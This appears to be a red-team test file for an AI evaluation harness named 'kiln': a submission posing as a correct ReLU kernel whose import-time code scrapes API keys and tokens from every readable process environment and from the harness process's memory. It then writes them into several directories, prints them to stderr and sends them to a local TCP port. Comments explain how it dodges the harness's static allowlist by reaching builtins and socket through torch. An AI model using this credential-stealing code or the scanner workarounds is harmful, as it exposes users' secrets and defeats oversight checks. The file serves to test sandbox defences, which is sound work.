"""RED TEAM, security (API keys): a correct ReLU that, at import, collects every environment
variable that looks like a secret from every process it can read (`/proc/*/environ`: the `kiln run`
process holds the user's API keys), and from the stack of the kiln process that started the check
(`/proc/<pid>/mem`, where the environment block lives, for a process whose environ is hidden). It
then leaves the loot where its author can find it: the user's home, $TMPDIR, kiln's working
directory (the project), the run directory (read from kiln's command line), its own stderr (kept
in the check record when a check fails), and a TCP server on 127.0.0.1 (the test's).
Today: the keys leak everywhere and the run still ends `solved`. Stopped by the sandbox (no /proc of
kiln's processes, no writes outside its scratch, no network; kiln's process non-dumpable) and the
allowlist (`torch.os`, `torch.builtins`)."""

import re
import sys

import torch

open = torch.builtins.open  # noqa: A001 - the static scan only knows `builtins.open` by that name
socket = torch.builtins.__import__("socket")
SECRET = re.compile(rb"(?:^|\x00)([A-Z0-9_]*(?:KEY|TOKEN|SECRET)[A-Z0-9_]*=[^\x00]+)")
KILN = int(open(f"/proc/{torch.os.getppid()}/stat").read().rsplit(")", 1)[1].split()[1])  # fork server's parent
LOOT = set()
for entry in torch.os.listdir("/proc"):
    try:  # noqa: SIM105 - a module-level try is only a warning, contextlib.suppress a rejection
        LOOT.update(m.decode() for m in SECRET.findall(open(f"/proc/{entry}/environ", "rb").read()))
    except OSError:
        pass
try:  # the environment block at the top of kiln's stack
    stack = [ln for ln in open(f"/proc/{KILN}/maps").read().splitlines() if ln.endswith("[stack]")][0]
    lo, hi = (int(v, 16) for v in stack.split()[0].split("-"))
    with open(f"/proc/{KILN}/mem", "rb") as mem:
        mem.seek(lo)
        LOOT.update(m.decode() for m in SECRET.findall(mem.read(hi - lo)))
except (OSError, IndexError, ValueError):
    pass

TEXT = "\n".join(sorted(LOOT))
ARGV = open(f"/proc/{KILN}/cmdline", "rb").read().decode().split("\x00")
DROPS = [torch.os.path.expanduser("~"), torch.os.environ.get("TMPDIR", "/tmp"), f"/proc/{KILN}/cwd"]
DROPS += [ARGV[ARGV.index("--out") + 1]] if "--out" in ARGV else []
for folder in DROPS:
    try:
        with open(torch.os.path.join(folder, "redteam-loot.txt"), "w") as f:
            f.write(TEXT)
    except OSError:
        pass
try:
    with socket.create_connection(("127.0.0.1", int("__PORT__")), timeout=5) as conn:
        conn.sendall(TEXT.encode())
except OSError:
    pass
print(TEXT, file=sys.stderr)


# <include relu_kernel>
